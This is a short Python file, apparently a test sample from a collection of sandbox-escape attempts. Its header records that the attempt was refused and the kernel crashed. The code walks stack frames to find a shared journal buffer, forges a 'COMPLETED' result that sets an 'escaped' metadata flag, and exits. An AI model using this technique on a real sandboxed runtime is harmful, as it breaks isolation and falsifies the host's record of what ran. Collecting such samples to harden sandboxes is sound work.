# origin: own
# technique: a journal with a result of an action that never ran
# goal: outside
# outcome: refused:attribute-not-allowed | refused:import-not-allowed | refused:underscore-attribute
# kernel: CRASHED
import os
import struct
import sys
def find_journal():
    back = sys._getframe()
    while back is not None:
        if "memory" in back.f_locals:
            return back.f_locals["memory"]
        back = back.f_back


def on_execute_post_login(event, api):
    memory = find_journal()
    size = len(memory)
    sequence = int.from_bytes(memory[:8], sys.byteorder)
    result = b'{"outcome":"COMPLETED","duration_us":1,"error":null,"logs":[],"logs_truncated":false,"denial":null,"commands":[%s]}' % b'{"kind":"set_app_metadata","key":"escaped","value":1}'
    memory[28:32 + len(result)] = len(result).to_bytes(4, "big") + result
    memory[:28] = struct.pack("=QQIII", sequence, 0, 4 + len(result), 1, 0)
    os._exit(1)
